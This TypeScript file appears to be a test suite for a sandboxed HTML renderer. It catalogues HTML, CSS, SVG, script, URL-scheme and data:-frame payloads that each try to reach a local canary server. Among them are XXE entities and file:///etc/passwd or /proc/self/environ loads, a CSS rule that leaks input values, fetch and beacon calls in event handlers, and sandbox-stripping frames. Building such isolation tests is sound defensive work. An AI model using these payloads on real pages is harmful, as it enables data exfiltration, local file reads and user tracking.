import type { Canary } from './canary.ts';

type Attack = (canary: Canary) => string;

/** Loads through attributes of elements. */
const ELEMENTS: Record<string, Attack> = {
  'img src': ({ url }) => `<img src="${url('a.png')}" width="200" height="100">`,
  'img src, no scheme': ({ port }) => `<img src="//127.0.0.1:${port}/a.png" width="200">`,
  'img src, IPv6 loopback': ({ port }) => `<img src="http://[::ffff:127.0.0.1]:${port}/a.png" width="200">`,
  'img src, decimal address': ({ port }) => `<img src="http://2130706433:${port}/a.png" width="200">`,
  'img src, localhost': ({ port }) => `<img src="http://localhost:${port}/a.png" width="200">`,
  'img src, credentials': ({ port }) => `<img src="http://asset:x@127.0.0.1:${port}/a.png" width="200">`,
  'img src, https': ({ port }) => `<img src="https://127.0.0.1:${port}/a.png">`,
  'img src, looks like an asset': ({ url }) => `<img src="${url('assets/ast_red')}" width="200">`,
  'img srcset': ({ url }) => `<img srcset="${url('a.png')} 1x, ${url('b.png')} 2x" width="200">`,
  'img lazy': ({ url }) => `<img loading="lazy" src="${url('a.png')}" width="200">`,
  'img attributionsrc': ({ url }) => `<img src="data:," attributionsrc="${url('a')}">`,
  'picture source': ({ url }) => `<picture><source srcset="${url('a.png')}"><img src="data:,"></picture>`,
  'image element': ({ url }) => `<image src="${url('a.png')}" width="200">`,
  'input image': ({ url }) => `<input type="image" src="${url('a.png')}" width="200">`,
  'body background': ({ url }) => `<body background="${url('a.png')}">`,
  'table background': ({ url }) =>
    `<table background="${url('a.png')}" width="200" height="100"><td>x</table>`,
  'audio src': ({ url }) => `<audio src="${url('a.mp3')}" preload="auto" autoplay></audio>`,
  'video src': ({ url }) => `<video src="${url('a.mp4')}" preload="auto" autoplay></video>`,
  'video poster': ({ url }) => `<video poster="${url('a.png')}" width="200" height="100"></video>`,
  'video source': ({ url }) => `<video autoplay><source src="${url('a.webm')}"></video>`,
  'video track': ({ url }) => `<video src="data:video/mp4,"><track default src="${url('a.vtt')}"></video>`,
  embed: ({ url }) => `<embed src="${url('a.svg')}" width="200" height="100">`,
  object: ({ url }) => `<object data="${url('a.svg')}" width="200" height="100"></object>`,
  'object of a data: document': ({ url }) =>
    `<object data="data:text/html,<img src='${url('a.png')}'>" width="200" height="100"></object>`,
  applet: ({ url }) => `<applet code="${url('a.class')}" archive="${url('a.jar')}"></applet>`,
  'iframe src': ({ url }) => `<iframe src="${url('a.html')}"></iframe>`,
  'iframe srcdoc': ({ url }) => `<iframe srcdoc="<img src='${url('a.png')}'>"></iframe>`,
  'iframe srcdoc with script': ({ url }) =>
    `<iframe srcdoc="<script>new Image().src='${url('a.png')}'</script>"></iframe>`,
  'iframe data:': ({ url }) => `<iframe src="data:text/html,<img src='${url('a.png')}'>"></iframe>`,
  'nested data: documents': ({ url }) =>
    `<iframe src="data:text/html,${encodeURIComponent(`<iframe src="data:text/html,${encodeURIComponent(`<img src="${url('a.png')}">`)}"></iframe>`)}"></iframe>`,
  'iframe javascript:': ({ url }) => `<iframe src="javascript:fetch('${url('a')}')"></iframe>`,
  'iframe blob:': () => '<iframe src="blob:http://page.darkroom.invalid/0"></iframe>',
  'iframe asking for the document itself': () => '<iframe src="/1"></iframe><iframe src=""></iframe>',
  frameset: ({ url }) => `<frameset><frame src="${url('a.html')}"></frameset>`,
  portal: ({ url }) =>
    `<portal src="${url('a.html')}"></portal><fencedframe src="${url('a.html')}"></fencedframe>`,
  'html manifest': ({ url }) => `<html manifest="${url('a.appcache')}">`,
  'MathML href': ({ url }) => `<math href="${url('a.html')}"><mi href="${url('b.html')}">x</mi></math>`,
  'form that submits itself': ({ url }) =>
    `<form id="f" action="${url('a')}" method="post"><input name="x" autofocus onfocus="f.submit()"><button></form>`,
  'a ping': ({ url }) => `<a id="p" href="#p" ping="${url('a')}" autofocus onfocus="this.click()">x</a>`,
  'base href': ({ url }) =>
    `<base href="${url('')}"><img src="a.png" width="200"><link rel="stylesheet" href="a.css">`,
};

/** Hints that a browser acts on ahead of any need. */
const LINKS: Record<string, Attack> = Object.fromEntries(
  [
    ['stylesheet', 'a.css'],
    ['alternate stylesheet', 'a.css'],
    ['icon', 'a.png'],
    ['apple-touch-icon', 'a.png'],
    ['mask-icon', 'a.svg'],
    ['manifest', 'a.json'],
    ['prefetch', 'a.html'],
    ['prerender', 'a.html'],
    ['preconnect', ''],
    ['dns-prefetch', ''],
    ['next', 'a.html'],
    ['modulepreload', 'a.js'],
    ['import', 'a.html'],
    ['compression-dictionary', 'a.dict'],
    ['search', 'a.xml'],
    ['pingback', 'a'],
  ].map(([rel = '', name = '']): [string, Attack] => [
    `link ${rel}`,
    ({ url }) => `<link rel="${rel}" href="${url(name)}">`,
  ]),
);

const PRELOADS: Record<string, Attack> = Object.fromEntries(
  ['image', 'style', 'font', 'script', 'fetch', 'document', 'track', 'video', 'worker'].map(
    (as): [string, Attack] => [
      `link preload as ${as}`,
      ({ url }) => `<link rel="preload" as="${as}" crossorigin href="${url('a')}">`,
    ],
  ),
);

const HINTS: Record<string, Attack> = {
  'preload srcset': ({ url }) =>
    `<link rel="preload" as="image" imagesrcset="${url('a.png')} 1x" href="data:,">`,
  'dns-prefetch turned on': () =>
    '<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="//canary.example"><a href="http://canary.example">x</a>',
  'preconnect to a name': () => '<link rel="preconnect" href="http://canary.example" crossorigin>',
  'speculation rules': ({ url }) =>
    `<script type="speculationrules">{"prefetch":[{"urls":["${url('a.html')}"],"eagerness":"immediate"}]}</script>`,
  'meta link header': ({ url }) => `<meta http-equiv="Link" content="<${url('a.css')}>; rel=stylesheet">`,
  'meta refresh': ({ url }) => `<meta http-equiv="refresh" content="0;url=${url('a.html')}">`,
  'meta refresh to data:': () =>
    '<meta http-equiv="refresh" content="0;url=data:text/html,<body style=background:magenta>">',
  'meta refresh to javascript:': ({ url }) =>
    `<meta http-equiv="refresh" content="0;url=javascript:fetch('${url('a')}')">`,
  'meta refresh to itself': () => '<meta http-equiv="refresh" content="0">',
  'meta report-uri': ({ url }) =>
    `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${url('a')}"><img src="data:image/png,x">`,
  'meta set-cookie and origin trial': () =>
    '<meta http-equiv="set-cookie" content="a=b"><meta http-equiv="origin-trial" content="x">',
  'meta policy that allows all': ({ url }) =>
    `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><img src="${url('a.png')}" width="200">`,
};

/** `url()` in each property that takes an image or a reference. */
const PROPERTIES: Record<string, Attack> = Object.fromEntries(
  [
    'background',
    'background-image',
    'border-image',
    'border-image-source',
    'list-style',
    'list-style-image',
    'mask',
    'mask-image',
    'mask-border-source',
    '-webkit-mask-box-image',
    'clip-path',
    'filter',
    'backdrop-filter',
    'cursor',
    'shape-outside',
    'offset-path',
    '-webkit-box-reflect: below 0',
    '--x',
  ].map((property): [string, Attack] => {
    const [name = '', ...before] = property.split(/: ?/);
    return [
      `css ${name}`,
      ({ url }) =>
        `<div style="width:200px;height:100px;display:list-item;float:left;${name}:${before.join(' ')} url(${url('a.svg#shape')})">x</div>`,
    ];
  }),
);

const STYLES: Record<string, Attack> = {
  'css image-set': ({ url }) => `<style>html{background:image-set("${url('a.png')}" 1x)}</style>`,
  'css cross-fade': ({ url }) =>
    `<style>html{background:-webkit-cross-fade(url(${url('a.png')}),url(${url('b.png')}),50%)}</style>`,
  'css content': ({ url }) => `<style>body::before{content:url(${url('a.png')})}</style>`,
  'css content on an image': ({ url }) => `<img style="content:url(${url('a.png')})">`,
  'css variable': ({ url }) => `<style>:root{--u:url(${url('a.png')})}html{background:var(--u)}</style>`,
  'css escapes': ({ port }) => `<style>html{background:\\75rl(http://127.0.0.1:${port}/a.png)}</style>`,
  'css src()': ({ url }) => `<style>html{background:src("${url('a.png')}")}</style>`,
  'css ::marker and ::selection': ({ url }) =>
    `<style>li::marker{content:url(${url('a.png')})}::selection{background:url(${url('b.png')})}</style><li>x`,
  'css @media print': ({ url }) => `<style>@media print{html{background:url(${url('a.png')})}}</style>`,
  'css @import': ({ url }) => `<style>@import url(${url('a.css')});</style>`,
  'css @import, quoted, layered': ({ url }) =>
    `<style>@import "${url('a.css')}" layer(x) supports(display:block);</style>`,
  'css @import from a data: sheet': ({ url }) =>
    `<style>@import "data:text/css,${encodeURIComponent(`@import "${url('a.css')}"; html{background:url(${url('a.png')})}`)}";</style>`,
  'css @font-face': ({ url }) =>
    `<style>@font-face{font-family:x;src:url(${url('a.woff2')})}body{font-family:x}</style>x`,
  'css @namespace and @document': ({ url }) =>
    `<style>@namespace url(${url('a')});@document url(${url('b')}){html{background:magenta}}</style>`,
  'css @counter-style': ({ url }) =>
    `<style>@counter-style c{system:cyclic;symbols:url(${url('a.png')})}ul{list-style:c}</style><ul><li>x</ul>`,
  'css attribute reader': ({ url }) =>
    `<style>input[value^="s"]{background:url(${url('leak-s')})}</style><input value="secret">`,
  'css animation': ({ url }) =>
    `<style>@keyframes k{from{background:url(${url('a.png')})}to{background:url(${url('b.png')})}}body{animation:k 1s}</style>`,
  'css expression and behavior': ({ url }) =>
    `<style>body{behavior:url(${url('a.htc')});-moz-binding:url(${url('a.xml')});width:expression(alert(1))}</style>`,
  'css paint worklet': ({ url }) => `<script>CSS.paintWorklet.addModule('${url('a.js')}')</script>`,
  'xml-stylesheet': ({ url }) => `<?xml-stylesheet href="${url('a.css')}" type="text/css"?>`,
};

const DRAWINGS: Record<string, Attack> = {
  'svg image href': ({ url }) => `<svg><image href="${url('a.png')}" width="200" height="100"/></svg>`,
  'svg image xlink:href': ({ url }) =>
    `<svg><image xlink:href="${url('a.png')}" width="200" height="100"/></svg>`,
  'svg use': ({ url }) => `<svg><use href="${url('a.svg#shape')}"/></svg>`,
  'svg use of data:': () =>
    "<svg><use href=\"data:image/svg+xml,<svg id='s' xmlns='http://www.w3.org/2000/svg'><rect fill='magenta' width='9' height='9'/></svg>#s\"/></svg>",
  'svg feImage': ({ url }) =>
    `<svg><filter id="f"><feImage href="${url('a.png')}"/></filter><rect width="200" height="100" filter="url(#f)"/></svg>`,
  'svg foreignObject': ({ url }) =>
    `<svg><foreignObject width="200" height="100"><img src="${url('a.png')}" xmlns="http://www.w3.org/1999/xhtml"/></foreignObject></svg>`,
  'svg fill': ({ url }) => `<svg><rect fill="url(${url('a.svg#shape')})" width="200" height="100"/></svg>`,
  'svg gradient href': ({ url }) =>
    `<svg><linearGradient id="g" href="${url('a.svg#shape')}"/><rect fill="url(#g)" width="9" height="9"/></svg>`,
  'svg mpath, textPath': ({ url }) =>
    `<svg><text><textPath href="${url('a.svg#shape')}">x</textPath></text><animateMotion><mpath href="${url('a.svg#shape')}"/></animateMotion></svg>`,
  'svg script': ({ url }) => `<svg><script href="${url('a.js')}"></script></svg>`,
  'svg set href': ({ url }) =>
    `<svg><image width="200" height="100"><set attributeName="href" to="${url('a.png')}"/></image></svg>`,
  'svg onload': ({ url }) => `<svg onload="fetch('${url('a')}')"></svg>`,
  'svg a javascript:': () => '<svg><a href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  'data: SVG with references': ({ url }) =>
    `<img width="200" height="100" src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"><style>@import "${url('a.css')}";</style><image href="${url('a.png')}" width="200" height="100"/><use href="${url('a.svg#shape')}"/></svg>`)}">`,
  'data: SVG with an entity': ({ fileUrl }) =>
    `<img width="200" height="100" src="data:image/svg+xml,${encodeURIComponent(`<!DOCTYPE svg [<!ENTITY x SYSTEM "${fileUrl}">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`)}">`,
};

const SCRIPTS: Record<string, Attack> = {
  'script inline': ({ url }) =>
    `<script>document.body.style.background='magenta';fetch('${url('a')}')</script>`,
  'script src': ({ url }) => `<script src="${url('a.js')}"></script>`,
  'script data:': () =>
    `<script src="data:text/javascript,document.documentElement.style.background='magenta'"></script>`,
  'script module': ({ url }) => `<script type="module">import '${url('a.js')}'</script>`,
  'script importmap': ({ url }) => `<script type="importmap">{"imports":{"a":"${url('a.js')}"}}</script>`,
  'javascript: link': ({ url }) =>
    `<a href="javascript:fetch('${url('a')}')" autofocus onfocus="click()">x</a>`,
  'onerror handler': ({ url }) =>
    `<img src="x:" onerror="fetch('${url('a')}');document.body.style.background='magenta'">`,
  'onload handler': ({ url }) => `<body onload="new Image().src='${url('a.png')}'">`,
  'animation handler': ({ url }) =>
    `<style>@keyframes k{}</style><div style="animation:k 1ms" onanimationend="fetch('${url('a')}')">x</div>`,
  'toggle and focus handlers': ({ url }) =>
    `<details open ontoggle="fetch('${url('a')}')">x</details><input autofocus onfocus="fetch('${url('b')}')">`,
  beacon: ({ url }) => `<script>navigator.sendBeacon('${url('a')}','x')</script>`,
  'event source': ({ url }) => `<script>new EventSource('${url('a')}')</script>`,
  'web socket': ({ port }) => `<script>new WebSocket('ws://127.0.0.1:${port}')</script>`,
  'web transport': ({ port }) => `<script>new WebTransport('https://127.0.0.1:${port}')</script>`,
  'web RTC': ({ port }) =>
    `<script>const c=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${port}'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))</script>`,
  'service worker': ({ url }) => `<script>navigator.serviceWorker.register('${url('a.js')}')</script>`,
  worker: ({ url }) =>
    `<script>new Worker('data:text/javascript,fetch("${url('a')}")');new SharedWorker('${url('a.js')}')</script>`,
  'window open': ({ url }) => `<script>open('${url('a.html')}');location='${url('b.html')}'</script>`,
  'document write': ({ url }) => `<script>document.write('<img src="${url('a.png')}">')</script>`,
};

/** Other schemes, in the two elements that load without a click. */
const SCHEMES: Record<string, Attack> = Object.fromEntries(
  [
    'ftp://127.0.0.1:PORT/a.png',
    'ws://127.0.0.1:PORT/a',
    'chrome://version/',
    'chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html',
    'devtools://devtools/bundled/inspector.html',
    'view-source:http://127.0.0.1:PORT/a.html',
    'blob:http://127.0.0.1:PORT/0',
    'filesystem:http://127.0.0.1:PORT/temporary/a',
    'about:blank',
    'asset://ast_unknown',
    'asset:ast_unknown',
    'file:///etc/passwd',
    'file:///proc/self/environ',
    'jar:http://127.0.0.1:PORT/a.jar!/a',
    'intent://127.0.0.1:PORT/#Intent;end',
    'gopher://127.0.0.1:PORT/a',
  ].map((address): [string, Attack] => [
    `scheme ${address}`,
    ({ port }) => {
      const url = address.replace('PORT', String(port));
      return `<img src="${url}" width="200" height="50"><iframe src="${url}"></iframe><div style="background:url('${url}');height:50px"></div>`;
    },
  ]),
);

const FILES: Record<string, Attack> = {
  'file: picture': ({ fileUrl }) =>
    `<img src="${fileUrl}" width="200" height="100"><div style="height:100px;background:url(${fileUrl})"></div>`,
  'file: frame': ({ fileUrl }) =>
    `<iframe src="${fileUrl}"></iframe><embed src="${fileUrl}"><object data="${fileUrl}"></object>`,
  'file: base': ({ fileUrl }) => `<base href="${fileUrl}"><img src="picture.png" width="200">`,
  'file: refresh': ({ fileUrl }) => `<meta http-equiv="refresh" content="0;url=${fileUrl}">`,
};

const dataFrame = (type: string, document: string) => `data:${type},${encodeURIComponent(document)}`;

/** What a document in a `data:` address may try that no page can: its own type, its own frame, its own origin. */
const FRAMES: Record<string, Attack> = {
  'frame that takes its sandbox off': ({ url }) =>
    `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation allow-downloads allow-popups" allow="*" src="${dataFrame('text/html', `<script>top.location='${url('a.html')}';fetch('${url('b')}')</script>`)}"></iframe>`,
  'frame that takes its policy off': ({ url }) =>
    `<iframe csp="default-src * 'unsafe-inline'" src="${dataFrame('text/html', `<img src="${url('a.png')}">`)}"></iframe>`,
  'frame that goes elsewhere': ({ url }) =>
    `<iframe src="${dataFrame('text/html', `<meta http-equiv="refresh" content="0;url=${url('a.html')}">`)}"></iframe>`,
  'frame that opens itself again': () =>
    `<iframe src="${dataFrame('text/html', '<meta http-equiv="refresh" content="0">')}"></iframe>`,
  'frame that is downloaded': ({ url }) =>
    `<iframe src="${dataFrame('application/octet-stream', 'x')}"></iframe><iframe src="${dataFrame('text/html', `<a id="x" download href="${url('a')}" autofocus onfocus="click()">x</a>`)}"></iframe>`,
  'frame of XML with a style sheet': ({ url }) =>
    `<iframe src="${dataFrame('text/xml', `<?xml-stylesheet type="text/xsl" href="${url('a.xsl')}"?><?xml-stylesheet type="text/css" href="${url('a.css')}"?><x/>`)}"></iframe>`,
  'frame of XML that transforms itself': ({ url }) =>
    `<iframe src="${dataFrame('text/xml', `<?xml-stylesheet type="text/xsl" href="${dataFrame('text/xsl', `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="${url('b.xsl')}"/><xsl:template match="/"><img src="${url('a.png')}"/><xsl:copy-of select="document('${url('c.xml')}')"/></xsl:template></xsl:stylesheet>`)}"?><x/>`)}"></iframe>`,
  'frame of XML with entities': ({ url, fileUrl }) =>
    `<iframe src="${dataFrame('application/xhtml+xml', `<!DOCTYPE html [<!ENTITY a SYSTEM "${url('a.xml')}"><!ENTITY b SYSTEM "${fileUrl}"><!ENTITY % c SYSTEM "${url('c.dtd')}"> %c;]><html xmlns="http://www.w3.org/1999/xhtml"><body>&a;&b;</body></html>`)}"></iframe>`,
  'frame of a drawing': ({ url }) =>
    `<object data="${dataFrame('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="fetch('${url('a')}')"><script href="${url('a.js')}"/><style>@import "${url('a.css')}";</style><image href="${url('a.png')}" width="200" height="100"/><use href="${url('a.svg#shape')}"/><foreignObject width="200" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url('a.html')}"/></foreignObject></svg>`)}"></object>`,
  'frame of an archive': ({ url }) =>
    `<iframe src="${dataFrame('multipart/related;boundary=b', `--b\r\nContent-Type: text/html\r\nContent-Location: ${url('')}\r\n\r\n<img src="${url('a.png')}">\r\n--b--`)}"></iframe>`,
  'embedded document of a plugin': ({ url }) =>
    `<embed src="${dataFrame('application/pdf', `%PDF-1.4 1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${url('a')})>>>>endobj`)}"><object type="application/x-shockwave-flash" data="${dataFrame('application/x-shockwave-flash', 'FWS')}"></object>`,
  'frame of sound and film': ({ url }) =>
    `<iframe src="${dataFrame('application/vnd.apple.mpegurl', `#EXTM3U\n#EXTINF:9,\n${url('a.ts')}`)}"></iframe><iframe src="${dataFrame('video/mp4', 'x')}"></iframe>`,
};

/** A page that makes the same attack from within a document in a `data:` address, two frames deep. */
export function framed(attack: string): string {
  const document = dataFrame('text/html', `<!doctype html><html><head>${attack}</head><body>x</body></html>`);
  return `<iframe src="${dataFrame('text/html', `<object data="${document}"></object>`)}"></iframe>`;
}

/** Everything a page may try to reach the outside with, by name. */
export const ATTACKS: Record<string, Attack> = {
  ...ELEMENTS,
  ...LINKS,
  ...PRELOADS,
  ...HINTS,
  ...PROPERTIES,
  ...STYLES,
  ...DRAWINGS,
  ...SCRIPTS,
  ...SCHEMES,
  ...FILES,
  ...FRAMES,
};
